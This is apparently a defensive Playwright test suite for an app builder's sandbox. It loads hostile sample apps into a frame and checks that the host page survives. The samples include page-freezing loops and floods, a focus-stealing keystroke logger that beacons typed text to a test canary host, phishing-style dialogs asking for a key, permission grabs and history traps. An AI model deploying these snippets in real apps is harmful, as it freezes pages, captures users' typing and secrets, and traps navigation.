import type { Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { type Attack, AttackHarness, type Project } from './attack-harness.ts';

let harness: AttackHarness;

beforeAll(async () => {
  harness = await AttackHarness.open();
});

afterAll(() => harness?.close());

/** Opens the builder with an app that misbehaves on command, and sends the command without waiting for an answer. */
async function misbehave(start: Attack<unknown>): Promise<{ page: Page; project: Project }> {
  const wrapped = `(target) => { window.start = () => (${start.toString()})(target); }`;
  const { page, frame, project } = await harness.attack('the builder', wrapped);
  await frame.evaluate(() => void setTimeout((window as unknown as { start: () => void }).start));
  return { page, project };
}

/** Asserts that the page reacts to typing. */
async function expectAnswers(page: Page): Promise<void> {
  const box = page.locator('textarea');
  await box.click();
  await page.keyboard.type('abc');
  await expect.poll(() => box.inputValue(), { interval: 10 }).toContain('abc');
  await box.fill('');
}

/** Asserts the recovery: the next version of the app is shown, and the old one is gone. */
async function mend(page: Page, project: Project): Promise<void> {
  await harness.put(project, { 'index.html': '<!doctype html><h1>Mended</h1>' });
  // A hanging frame neither answers nor fails.
  const heading = () =>
    Promise.race([
      page.frames().at(-1)?.locator('h1').textContent({ timeout: 500 }) ?? null,
      new Promise((resolve) => setTimeout(resolve, 600)),
    ]).catch(() => null);
  await expect.poll(heading).toBe('Mended');
  await harness.expectUnharmed(page, project);
}

test.each<[string, Attack<unknown>]>([
  [
    'an endless loop',
    () => {
      for (;;);
    },
  ],
  [
    'an endless loop of microtasks',
    () => {
      const again = () => void Promise.resolve().then(again);
      again();
    },
  ],
  [
    'a document that grows without end',
    () => {
      for (;;) {
        const element = document.createElement('section');
        element.textContent = 'x'.repeat(1000);
        document.body.append(element);
        void element.offsetHeight;
        if (document.body.childElementCount > 30_000) document.body.replaceChildren();
      }
    },
  ],
  [
    'messages to the page without end',
    () => {
      const text = 'm'.repeat(20_000);
      const more = () => {
        for (let index = 0; index < 200; index += 1) parent.postMessage({ redraw: 'hello', text }, '*');
        setTimeout(more);
      };
      more();
    },
  ],
  [
    'reloads without end',
    () => {
      location.reload();
    },
  ],
])('%s leaves the page to the visitor', async (_what, start) => {
  const { page, project } = await misbehave(start);
  await expectAnswers(page);
  await expectAnswers(page);
  await mend(page, project);
  await page.close();
});

test('dialogs come in the name of the app, and end', async () => {
  const { page, frame, project } = await harness.attack('the builder', () => null);
  const said: string[] = [];
  page.on('dialog', (dialog) => {
    said.push(dialog.type());
    void dialog.dismiss();
  });
  await frame.evaluate(() => {
    for (let index = 0; index < 5; index += 1) {
      alert('Your session has ended.');
      confirm('Your session has ended.');
      prompt('Your key, please');
    }
  });
  expect(said.length).toBeLessThanOrEqual(15);
  await expectAnswers(page);
  await mend(page, project);
  await page.close();
});

test('an app cannot catch what the visitor types', async () => {
  const { page, project } = await misbehave(({ canary }) => {
    const box = document.createElement('input');
    document.body.append(box);
    box.oninput = () => navigator.sendBeacon(`${canary}/caught/${box.value}`);
    setInterval(() => {
      window.focus();
      box.focus();
    }, 5);
  });
  const box = page.locator('textarea');
  await box.click();
  const secret = 'sk-ant-this-is-a-secret-key-of-mine';
  for (const letter of secret) {
    await page.keyboard.type(letter);
    // The page has had a turn of its event loop: on a busy machine, many letters would come before it can do anything.
    await page.evaluate(() => new Promise((done) => setTimeout(done)));
  }
  // It catches the first letters at most: then it is gone.
  await page.getByText('The app does not answer').waitFor();
  const caught = harness.canary.visits.flatMap(({ path }) =>
    path.startsWith('/caught/') ? [path.slice(8).length] : [],
  );
  expect(Math.max(0, ...caught)).toBeLessThanOrEqual(3);
  expect((await box.inputValue()).length).toBeGreaterThanOrEqual(secret.length - 3);
  await mend(page, project);
  await page.close();
});

test('an app that goes to a field of its own as it starts does not disturb who types, and works', async () => {
  const { page, frame, project } = await harness.attack('the builder', () => null);
  const box = page.locator('textarea');
  await box.click();
  await page.keyboard.type('Make it ');
  await frame.evaluate(() => {
    document.body.innerHTML = '<input aria-label="Own">';
    document.querySelector('input')?.focus();
  });
  await expect.poll(() => page.evaluate(() => document.activeElement?.tagName)).toBe('TEXTAREA');
  await page.keyboard.type('green');
  expect(await box.inputValue()).toBe('Make it green');
  const own = await frame.getByLabel('Own').boundingBox();
  if (!own) throw new Error('The field is not there.');
  // In small steps, as a hand moves: the page sees the pointer coming.
  await page.mouse.move(own.x + 5, own.y + 5, { steps: 20 });
  await page.mouse.down();
  await page.mouse.up();
  await page.keyboard.type('mine');
  expect(await frame.getByLabel('Own').inputValue()).toBe('mine');
  await harness.expectUnharmed(page, project);
  await page.close();
});

test('an app in the builder gets no permission, and does not fill the screen', async () => {
  const { page, frame, project } = await harness.attack('the builder', () => {
    const outcome = (work: () => Promise<unknown>) =>
      work().then(
        () => 'granted',
        (error: Error) => error.name ?? 'refused',
      );
    const { mediaDevices, geolocation, clipboard } = navigator;
    document.body.onclick = async () => {
      const gained = {
        camera: await outcome(() => mediaDevices.getUserMedia({ video: true })),
        screen: await outcome(() => mediaDevices.getDisplayMedia()),
        place: await outcome(
          () => new Promise((resolve, reject) => geolocation.getCurrentPosition(resolve, () => reject(new Error()))),
        ),
        clipboard: await outcome(() => clipboard.readText()),
        notices: await outcome(async () => {
          if ((await Notification.requestPermission()) !== 'granted') throw new Error();
        }),
        fullscreen: await outcome(() => document.documentElement.requestFullscreen()),
        pointer: await outcome(async () => await document.body.requestPointerLock()),
        lock: await outcome(() =>
          (screen.orientation as unknown as { lock(to: string): Promise<void> }).lock('portrait'),
        ),
        storage: await outcome(async () => {
          if (!(await document.hasStorageAccess())) throw new Error();
        }),
        payment: await outcome(async () => {
          await new PaymentRequest([{ supportedMethods: 'https://example.com' }], {
            total: { label: 'x', amount: { currency: 'EUR', value: '1' } },
          }).show();
        }),
        usb: await outcome(
          async () => await (navigator as unknown as { usb: { getDevices(): Promise<unknown> } }).usb.getDevices(),
        ),
        credentials: await outcome(() =>
          navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16), rpId: 'localhost' } }),
        ),
      };
      Object.assign(window, { done: gained });
    };
  });
  await harness.context.grantPermissions(['camera', 'geolocation', 'clipboard-read'], {
    origin: harness.redraw.url,
  });
  await frame.locator('body').click();
  const done = await frame.waitForFunction(() => (window as unknown as { done?: Record<string, string> }).done);
  const outcomes = (await done.jsonValue()) as Record<string, string>;
  // The pointer is an app's for the asking, on a click: games need it, and Escape takes it back.
  const { storage, pointer, ...rest } = outcomes;
  expect(pointer).toBe('granted');
  expect(Object.entries(rest).filter(([, outcome]) => outcome === 'granted')).toEqual([]);
  await harness.expectUnharmed(page, project);
  await page.close();
});

test('an app cannot trap the way back out of the builder', async () => {
  const project = await harness.project({
    'index.html': '<!doctype html><h1>Trap</h1><script type="module" src="/a.js"></script>',
    'a.js':
      'for (let i = 0; i < 1000; i += 1) try { history.pushState(i, "", "/" + i); } catch {}\nwindow.onpopstate = () => { try { history.pushState(1, "", "/again"); } catch {} };\naddEventListener("beforeunload", (event) => { event.preventDefault(); return "Stay!"; });\nwindow.gained = { gained: history.length };',
  });
  const { page } = await harness.show(project, 'the builder');
  const length = await page.evaluate(() => history.length);
  // The browser keeps at most fifty history entries.
  expect(length).toBeLessThanOrEqual(50);
  page.on('dialog', (dialog) => void dialog.accept());
  await page.goto(`${harness.redraw.url}/`);
  expect(page.url()).toBe(`${harness.redraw.url}/`);
  await page.close();
});
